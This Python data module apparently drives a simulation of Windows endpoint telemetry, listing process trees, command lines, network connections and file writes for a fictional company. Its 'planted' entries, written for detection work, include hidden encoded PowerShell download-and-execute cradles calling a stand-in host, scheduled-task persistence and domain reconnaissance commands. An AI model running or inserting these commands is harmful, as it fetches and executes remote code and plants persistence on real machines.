# ruff: noqa: E501 - a table of data
"""What runs on Windows machines: images, who starts them, with which command lines, how often.

A program that stays runs all day once on each machine (``stays``); the others are started by one
that stays, or by one of their kind (``cmd.exe``). ``rate`` is per machine and day, for laptops and
servers. Command lines are picked with equal chance; ``{user}`` is the account's short name.
What is ``planted`` is started by attacks alone.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass
from functools import cached_property

SYSTEM, LOCAL_SERVICE, NETWORK_SERVICE, USER = "system", "local service", "network service", "user"
_SYS = "C:\\Windows\\System32"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16"
_MS = "Microsoft Corporation"
_OS = "Microsoft® Windows® Operating System"
_365 = "Microsoft Office"


@dataclass(frozen=True)
class Program:
    """An image and how it is started."""

    name: str
    folder: str
    parent: str
    commands: tuple[str, ...]
    runner: str = SYSTEM
    rate: tuple[float, float] = (0.0, 0.0)
    stays: bool = False
    company: str = _MS
    product: str = _OS
    description: str = ""
    version: str = "10.0.22621.3235"
    servers_too: bool = True
    planted: bool = False

    @property
    def path(self) -> str:
        """The whole path of the image."""
        return f"{self.folder}\\{self.name}"

    @cached_property
    def hashes(self) -> tuple[str, str, str]:
        """SHA-256, SHA-1 and MD5 of the image, made up of its name and version."""
        seed = f"{self.name.lower()}/{self.version}".encode()
        made = (hashlib.sha256(seed), hashlib.sha1(seed), hashlib.md5(seed))
        return made[0].hexdigest(), made[1].hexdigest(), made[2].hexdigest()


def _stays(
    name: str, folder: str, parent: str, command: str, runner: str = SYSTEM, **more: object
) -> Program:
    return Program(name, folder, parent, (command,), runner, stays=True, **more)  # type: ignore[arg-type]


def _user(
    name: str, folder: str, parent: str, *commands: str, rate: float, **more: object
) -> Program:
    more = {"servers_too": False} | more
    return Program(name, folder, parent, commands, USER, (rate, 0.0), **more)  # type: ignore[arg-type]


_EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application"
_CHROME = "C:\\Program Files\\Google\\Chrome\\Application"
_TEAMS = "C:\\Program Files\\WindowsApps\\MSTeams_24033.811.2738.2546_x64__8wekyb3d8bbwe"
_DEFENDER = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0"
_SENSE = "C:\\Program Files\\Windows Defender Advanced Threat Protection"
_PS = f"{_SYS}\\WindowsPowerShell\\v1.0"
# A program stands behind its parent.
PROGRAMS: tuple[Program, ...] = (
    _stays("wininit.exe", _SYS, "wininit.exe", "wininit.exe"),
    _stays("services.exe", _SYS, "wininit.exe", "services.exe"),
    _stays("lsass.exe", _SYS, "wininit.exe", "lsass.exe"),
    _stays("svchost.exe", _SYS, "services.exe", "svchost.exe -k netsvcs -p -s Schedule"),
    _stays(
        "MsMpEng.exe", _DEFENDER, "services.exe", '"MsMpEng.exe"', product="Microsoft Defender"
    ),
    _stays("MsSense.exe", _SENSE, "services.exe", '"MsSense.exe"', product="Microsoft Defender"),
    _stays(
        "explorer.exe", "C:\\Windows", "explorer.exe", "C:\\Windows\\Explorer.EXE", USER,
        servers_too=False,
    ),
    _stays(
        "msedge.exe", _EDGE, "explorer.exe", '"msedge.exe" --profile-directory=Default', USER,
        product="Microsoft Edge", version="131.0.2903.70", servers_too=False,
    ),
    _stays(
        "chrome.exe", _CHROME, "explorer.exe", '"chrome.exe"', USER, company="Google LLC",
        product="Google Chrome", version="131.0.6778.86", servers_too=False,
    ),
    _stays(
        "OUTLOOK.EXE", _OFFICE, "explorer.exe", '"OUTLOOK.EXE"', USER, product=_365,
        version="16.0.17328.20162", servers_too=False,
    ),
    _stays(
        "ms-teams.exe", _TEAMS, "explorer.exe", '"ms-teams.exe"', USER, product="Microsoft Teams",
        version="24033.811.2738.2546", servers_too=False,
    ),
    _stays(
        "OneDrive.exe", "C:\\Program Files\\Microsoft OneDrive", "explorer.exe",
        '"OneDrive.exe" /background', USER, product="Microsoft OneDrive",
        version="24.020.0128.0003", servers_too=False,
    ),
    Program("svchost.exe", _SYS, "services.exe", (
        "svchost.exe -k netsvcs -p -s wuauserv", "svchost.exe -k LocalService -p",
        "svchost.exe -k NetworkService -p -s Dnscache", "svchost.exe -k wsappx -p -s ClipSVC",
    ), SYSTEM, (30, 20)),
    Program("taskhostw.exe", _SYS, "svchost.exe", ("taskhostw.exe", "taskhostw.exe Logon"),
            SYSTEM, (12, 8)),
    Program("conhost.exe", _SYS, "svchost.exe", (
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
    ), SYSTEM, (25, 40)),
    Program("backgroundTaskHost.exe", _SYS, "svchost.exe", (
        '"backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca',
    ), USER, (25, 0), servers_too=False),
    Program("WmiPrvSE.exe", f"{_SYS}\\wbem", "svchost.exe", (
        "wmiprvse.exe -secured -Embedding",), NETWORK_SERVICE, (8, 12)),
    Program("MpCmdRun.exe", _DEFENDER, "svchost.exe", (
        '"MpCmdRun.exe" SignatureUpdate -ScheduleJob', '"MpCmdRun.exe" Scan -ScheduleJob -RestrictPrivileges',
    ), NETWORK_SERVICE, (3, 3), product="Microsoft Defender"),
    Program("SearchProtocolHost.exe", _SYS, "svchost.exe", ('"SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe1_',), SYSTEM, (20, 0), servers_too=False),
    Program("SenseIR.exe", _SENSE, "MsSense.exe", ('"SenseIR.exe" "SenseIR" "eyJDb21tYW5kIjoi"',), SYSTEM, (2, 2), product="Microsoft Defender"),
    Program("powershell.exe", _PS, "MsSense.exe", (
        'powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive -Command "& {$OutputEncoding = [Console]::OutputEncoding;}"',
    ), SYSTEM, (4, 4)),
    Program("powershell.exe", _PS, "svchost.exe", (
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1",
        "powershell.exe -NoProfile -NonInteractive -EncodedCommand RwBlAHQALQBTAGUAcgB2AGkAYwBlACAALQBOAGEAbQBlACAAVwBpAG4ARABlAGYAZQBuAGQA",
        "powershell.exe -NoLogo -Command Get-WmiObject Win32_OperatingSystem",
    ), SYSTEM, (2, 6)),
    Program("cmd.exe", _SYS, "svchost.exe", (
        'C:\\Windows\\system32\\cmd.exe /c "C:\\Scripts\\rotate-logs.cmd"',
        "C:\\Windows\\system32\\cmd.exe /c gpupdate /target:computer",
    ), SYSTEM, (2, 15)),
    Program("schtasks.exe", _SYS, "svchost.exe", ("schtasks.exe /query /fo csv", 'schtasks.exe /change /tn "\\Backup\\Nightly" /enable'), SYSTEM, (0.3, 1)),
    Program("msedgewebview2.exe", _EDGE, "ms-teams.exe", ('"msedgewebview2.exe" --type=renderer --lang=en-US',), USER, (15, 0), product="Microsoft Edge WebView2", servers_too=False),
    _user("msedge.exe", _EDGE, "msedge.exe", '"msedge.exe" --type=renderer --lang=en-US', '"msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService', rate=45, product="Microsoft Edge", version="131.0.2903.70"),
    _user("chrome.exe", _CHROME, "chrome.exe", '"chrome.exe" --type=renderer --lang=en-US', rate=20, company="Google LLC", product="Google Chrome", version="131.0.6778.86"),
    _user("WINWORD.EXE", _OFFICE, "explorer.exe", '"WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\Minutes.docx" /o ""', '"WINWORD.EXE" /n "C:\\Users\\{user}\\Downloads\\Proposal.docx" /o ""', rate=4, product=_365, version="16.0.17328.20162"),
    _user("EXCEL.EXE", _OFFICE, "explorer.exe", '"EXCEL.EXE" "C:\\Users\\{user}\\OneDrive - Tallyport\\Forecast.xlsx"', '"EXCEL.EXE" "C:\\Users\\{user}\\Downloads\\Invoices.xlsm"', rate=5, product=_365, version="16.0.17328.20162"),
    _user("POWERPNT.EXE", _OFFICE, "explorer.exe", '"POWERPNT.EXE" "C:\\Users\\{user}\\Documents\\Review.pptx"', rate=2, product=_365, version="16.0.17328.20162"),
    _user("AcroRd32.exe", "C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat", "explorer.exe", '"AcroRd32.exe" "C:\\Users\\{user}\\Downloads\\Contract.pdf"', rate=3, company="Adobe Inc.", product="Adobe Acrobat", version="24.1.20604.0"),
    _user("7zFM.exe", "C:\\Program Files\\7-Zip", "explorer.exe", '"7zFM.exe" "C:\\Users\\{user}\\Downloads\\archive.zip"', rate=0.5, company="Igor Pavlov", product="7-Zip", version="23.01"),
    _user("notepad.exe", _SYS, "explorer.exe", '"notepad.exe" C:\\Users\\{user}\\Desktop\\notes.txt', rate=1.5),
    _user("SnippingTool.exe", _SYS, "explorer.exe", '"SnippingTool.exe"', rate=1),
    _user("powershell.exe", _PS, "explorer.exe", '"powershell.exe"', '"powershell.exe" -NoExit -Command Set-Location C:\\Users\\{user}', rate=0.3),
    _user("cmd.exe", _SYS, "explorer.exe", '"cmd.exe"', rate=0.4),
    _user("mstsc.exe", _SYS, "explorer.exe", '"mstsc.exe" /v:RDS01', rate=0.2),
    _user("rundll32.exe", _SYS, "explorer.exe", '"rundll32.exe" C:\\Windows\\system32\\shell32.dll,Control_RunDLL desk.cpl', rate=0.6),
    _user("msiexec.exe", _SYS, "explorer.exe", '"msiexec.exe" /i "C:\\Users\\{user}\\Downloads\\setup.msi"', rate=0.1),
    # started by a shell that was started before
    Program("ipconfig.exe", _SYS, "cmd.exe", ("ipconfig /all", "ipconfig /flushdns"), USER, (0.3, 0.3)),
    Program("whoami.exe", _SYS, "cmd.exe", ("whoami", "whoami /upn"), USER, (0.1, 0.2)),
    Program("net.exe", _SYS, "cmd.exe", ("net use \\\\FS01\\Backup", "net group \"IT\" /domain", "net start"), USER, (0.1, 1)),
    Program("ping.exe", _SYS, "cmd.exe", ("ping -n 6 127.0.0.1", "ping fs01"), USER, (0.3, 0.5)),
    Program("robocopy.exe", _SYS, "cmd.exe", ("robocopy D:\\Data \\\\FS01\\Backup /MIR /R:2",), SYSTEM, (0, 2)),
    Program("reg.exe", _SYS, "cmd.exe", ('reg query "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion"',), SYSTEM, (0.1, 1)),
    Program("nltest.exe", _SYS, "cmd.exe", ("nltest /dsgetdc:tallyport",), SYSTEM, (0, 0.3)),
    # only attacks start these
    Program("powershell.exe", _PS, "WINWORD.EXE", (
        "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHUAcABkAGEAdABlAC4AZQB4AGEAbQBwAGwAZQAvAGEAJwApAA==",
        'powershell.exe -w hidden -nop -c "IEX (New-Object Net.WebClient).DownloadString(\'https://cdn-update.example/a\')"',
        "powershell.exe -ep bypass -encodedcommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAALQBVAHIAaQAgAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHUAcABkAGEAdABlAC4AZQB4AGEAbQBwAGwAZQAvAGEA",
    ), USER, planted=True),
    Program("schtasks.exe", _SYS, "powershell.exe", (
        'schtasks.exe /create /sc minute /mo 30 /tn "OneDrive Update" /tr "C:\\Users\\Public\\svchost.exe"',
        'schtasks.exe /create /sc onlogon /tn "EdgeUpdate" /tr "powershell.exe -w hidden -File C:\\Users\\Public\\u.ps1"',
    ), USER, planted=True),
    Program("cmd.exe", _SYS, "powershell.exe", ("cmd.exe /c whoami & net user /domain",), USER, planted=True),
)  # fmt: skip
STAYING = tuple(place for place, one in enumerate(PROGRAMS) if one.stays)
STARTED = tuple(place for place, one in enumerate(PROGRAMS) if not one.stays and not one.planted)
SHELLS = ("cmd.exe",)


def program_named(name: str, *, stays: bool = True) -> int:
    """The position of a program; of those of this name the one that stays, or the first not to."""
    for place, one in enumerate(PROGRAMS):
        if one.name.lower() == name.lower() and one.stays == stays:
            return place
    raise KeyError(name)


@dataclass(frozen=True)
class Remote:
    """Where a program connects to: host name, address, port; ``rate`` as for programs."""

    program: str
    url: str
    address: str
    port: int
    rate: tuple[float, float]
    protocol: str = "Tcp"
    planted: bool = False


REMOTES = (
    Remote("msedge.exe", "www.bing.com", "204.79.197.200", 443, (30, 0)),
    Remote("msedge.exe", "www.msn.com", "204.79.197.203", 443, (18, 0)),
    Remote("msedge.exe", "login.microsoftonline.com", "20.190.159.2", 443, (18, 0)),
    Remote("msedge.exe", "tallyport.sharepoint.example", "13.107.136.10", 443, (30, 0)),
    Remote("msedge.exe", "github.com", "140.82.121.4", 443, (3, 0)),
    Remote("msedge.exe", "news.example.org", "151.101.1.140", 443, (15, 0)),
    Remote("chrome.exe", "www.google.com", "142.250.74.36", 443, (40, 0)),
    Remote("chrome.exe", "drive.google.com", "142.250.74.46", 443, (2, 0)),
    Remote("chrome.exe", "cdn.example.net", "151.101.65.21", 443, (40, 0)),
    Remote("OUTLOOK.EXE", "outlook.office365.com", "52.97.183.2", 443, (60, 0)),
    Remote("ms-teams.exe", "teams.microsoft.com", "52.113.194.132", 443, (60, 0)),
    Remote("ms-teams.exe", "", "52.114.77.33", 3478, (10, 0), "Udp"),
    Remote("OneDrive.exe", "tallyport-my.sharepoint.example", "13.107.136.11", 443, (40, 0)),
    Remote("svchost.exe", "settings-win.data.microsoft.com", "51.104.136.2", 443, (15, 10)),
    Remote("svchost.exe", "ctldl.windowsupdate.com", "199.232.210.172", 80, (5, 4)),
    Remote("svchost.exe", "", "10.20.0.10", 53, (25, 40), "Udp"),
    Remote("lsass.exe", "dc01.corp.tallyport.example", "10.20.0.10", 88, (8, 25)),
    Remote("lsass.exe", "dc01.corp.tallyport.example", "10.20.0.10", 389, (5, 20)),
    Remote("MsMpEng.exe", "wdcp.microsoft.com", "20.54.232.160", 443, (4, 4)),
    Remote("MsSense.exe", "winatp-gw-weu.microsoft.com", "20.101.56.10", 443, (24, 24)),
    Remote("powershell.exe", "cdn-update.example", "45.134.26.88", 443, (0, 0), planted=True),
    Remote("explorer.exe", "fs01.corp.tallyport.example", "10.20.0.12", 445, (10, 0)),
)


@dataclass(frozen=True)
class Touched:
    """A file that a program writes; ``{user}`` and ``{n}`` are filled in."""

    program: str
    folder: str
    name: str
    action: str
    rate: tuple[float, float]
    url: str = ""
    kind: str = ""
    planted: bool = False


_HOME = "C:\\Users\\{user}"
FILES = (
    Touched("msedge.exe", f"{_HOME}\\Downloads", "report-{n}.pdf", "FileCreated", (2, 0), "https://tallyport.sharepoint.example/sites/finance/report.pdf", "PDF"),
    Touched("msedge.exe", f"{_HOME}\\Downloads", "archive-{n}.zip", "FileCreated", (0.5, 0), "https://files.example.org/archive.zip", "Zip"),
    Touched("msedge.exe", f"{_HOME}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Cache", "f_{n}", "FileCreated", (60, 0)),
    Touched("chrome.exe", f"{_HOME}\\Downloads", "setup-{n}.exe", "FileCreated", (0.1, 0), "https://dl.example.net/setup.exe", "PortableExecutable"),
    Touched("chrome.exe", f"{_HOME}\\AppData\\Local\\Google\\Chrome\\User Data\\Default", "Preferences", "FileModified", (20, 0)),
    Touched("OUTLOOK.EXE", f"{_HOME}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\4X7B2K9Q", "invoice-{n}.xlsx", "FileCreated", (3, 0), "", "Xlsx"),
    Touched("OneDrive.exe", f"{_HOME}\\OneDrive - Tallyport", "document-{n}.docx", "FileModified", (25, 0), "", "Docx"),
    Touched("OneDrive.exe", f"{_HOME}\\OneDrive - Tallyport", "draft-{n}.docx", "FileRenamed", (4, 0), "", "Docx"),
    Touched("explorer.exe", f"{_HOME}\\Documents", "notes-{n}.txt", "FileCreated", (2, 0), "", "Txt"),
    Touched("explorer.exe", f"{_HOME}\\Downloads", "old-{n}.pdf", "FileDeleted", (1, 0), "", "PDF"),
    Touched("ms-teams.exe", f"{_HOME}\\AppData\\Local\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache", "log-{n}.txt", "FileModified", (20, 0), "", "Txt"),
    Touched("svchost.exe", "C:\\Windows\\SoftwareDistribution\\Download", "update-{n}.cab", "FileCreated", (4, 4), "", "Cab"),
    Touched("svchost.exe", "C:\\Windows\\Temp", "tmp-{n}.tmp", "FileCreated", (20, 40)),
    Touched("MsMpEng.exe", "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates", "mpasdlta-{n}.vdm", "FileCreated", (3, 3)),
    Touched("powershell.exe", "C:\\Users\\Public", "svchost-{n}.exe", "FileCreated", (0, 0), "", "PortableExecutable", planted=True),
    Touched("MsSense.exe", "C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\Temp", "PSScriptOutputs-{n}.txt", "FileCreated", (3, 3), "", "Txt"),
)  # fmt: skip
